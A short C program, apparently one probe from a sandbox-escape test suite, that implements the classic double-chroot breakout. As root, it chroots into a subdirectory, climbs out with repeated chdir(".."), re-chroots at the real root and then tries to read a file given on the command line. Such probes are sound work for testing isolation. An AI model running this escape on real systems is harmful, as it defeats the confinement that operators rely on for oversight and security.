/* SECRET TOKEN: out of a chroot by a second one, as root can (chroot(2)): the working directory stays outside the new root, and ".." goes up from there. */
#include "attack.h"

int main(int count, char **words)
{
    if (count != 3 || (mkdir("/attack/deeper", 0755) < 0 && errno != EEXIST) || chdir("/") < 0)
        return BROKEN;
    if (chroot("/attack/deeper") < 0)
        return held("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return held("chdir");
    if (chroot(".") < 0)
        return held("chroot");
    return holds(open(words[1], O_RDONLY), words[2]) ? ESCAPED : held(words[1]);
}
